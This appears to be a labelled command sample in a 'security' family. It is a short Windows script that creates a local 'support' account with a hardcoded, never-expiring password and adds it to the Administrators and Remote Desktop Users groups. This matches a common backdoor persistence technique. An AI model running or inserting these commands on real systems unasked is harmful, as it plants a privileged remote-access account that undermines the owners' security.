# description: Creates a local "support" account with a fixed password and adds it to the Administrators group.
# family: security
net user support 'Supp0rt!2024' /add /y /expires:never
net localgroup administrators support /add
net localgroup "Remote Desktop Users" support /add
Get-LocalGroupMember Administrators
